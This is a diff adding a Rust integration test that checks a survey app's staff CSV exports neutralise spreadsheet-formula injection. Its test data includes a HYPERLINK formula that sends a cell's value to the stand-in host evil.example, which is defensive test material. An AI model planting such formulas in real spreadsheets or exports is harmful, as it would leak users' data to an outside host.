@@ -6,7 +6,7 @@ use diesel::prelude::*;
 use ourvoice::accounts::Role;
 use ourvoice::store::schema::responses;
 use ourvoice::store::{accounts, responses::Writer, surveys};
-use ourvoice::survey::Answers;
+use ourvoice::survey::{Answers, Status};
 use ourvoice::text::TextPipeline;
 
 use crate::helpers::{SmtpServer, Visitor, csrf, shipped_surveys, signed_in, spawn_app, spawn_app_with};
@@ -221,4 +221,64 @@ async fn sign_in_answers_known_and_unknown_addresses_alike_and_an_address_gets_a
     smtp.wait_for(ourvoice::mail::SIGN_IN_LINKS_PER_HOUR as usize).await;
     actix_web::rt::time::sleep(std::time::Duration::from_millis(500)).await;
     assert_eq!(smtp.messages().len(), ourvoice::mail::SIGN_IN_LINKS_PER_HOUR as usize, "a few links an hour");
+}
+
+const FORMULAS: [&str; 5] =
+    ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")", "=1+2", "+SUM(1,2)", "-2+3", "@SUM(1,1)"];
+
+/// Every cell of a CSV as a spreadsheet reads it: none may start a formula.
+fn assert_no_formula(csv: &str) {
+    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv.as_bytes());
+    for record in reader.records() {
+        for cell in record.unwrap().iter() {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} in\n{csv}");
+        }
+    }
+}
+
+#[actix_web::test]
+async fn exports_never_hand_a_spreadsheet_a_formula() {
+    let app = spawn_app().await;
+    for formula in FORMULAS.iter().chain(&FORMULAS) {
+        let body = serde_json::json!({"answers": {"one-wish": formula, "feel-safe": 3}});
+        assert_eq!(app.post_json(API, "application/json", body.to_string()).await.0, 201);
+    }
+    let mut staff = signed_in(&app, Role::Staff).await;
+    let answers = staff.get("/staff/surveys/big-promise/answers.csv").await;
+    assert_eq!(answers.status, 200);
+    // (An "@" word is redacted as a handle before storage; the others are kept, as text.)
+    for formula in &FORMULAS[..4] {
+        assert!(answers.body.contains(&format!("'{formula}").replace('"', "\"\"")), "{formula} kept as text");
+    }
+    assert_no_formula(&answers.body);
+
+    let survey_id = app
+        .db(|conn| {
+            let id = surveys::find(conn, "big-promise").unwrap().unwrap().id;
+            assert!(surveys::set_status(conn, &id, Status::Open, Status::Closed).unwrap());
+            id
+        })
+        .await;
+    let page = staff.get("/staff/reports").await.body;
+    let form = [("csrf", csrf(&page)), ("title", "Formulas".into()), ("survey", survey_id)];
+    let form: Vec<(&str, &str)> = form.iter().map(|(n, v)| (*n, v.as_str())).collect();
+    let to = staff.post_ok("/staff/reports", &form).await;
+    let token = csrf(&staff.get(&to).await.body);
+    for (you_said, action) in [(FORMULAS[0], FORMULAS[1]), (FORMULAS[2], FORMULAS[4])] {
+        let fields = [
+            ("csrf", token.as_str()),
+            ("priority", "health"),
+            ("you_said", you_said),
+            ("action", action),
+            ("organisation", ""),
+            ("due", ""),
+            ("status", "planned"),
+        ];
+        assert_eq!(staff.post_ok(&format!("{to}/statements"), &fields).await, to);
+    }
+    let statements = staff.get(&format!("{to}/statements.csv")).await.body;
+    assert!(statements.contains("'+SUM(1,2)"), "{statements}");
+    assert_no_formula(&statements);
+    let figures = staff.get("/staff/surveys/big-promise/results.csv").await.body;
+    assert_no_formula(&figures);
 }
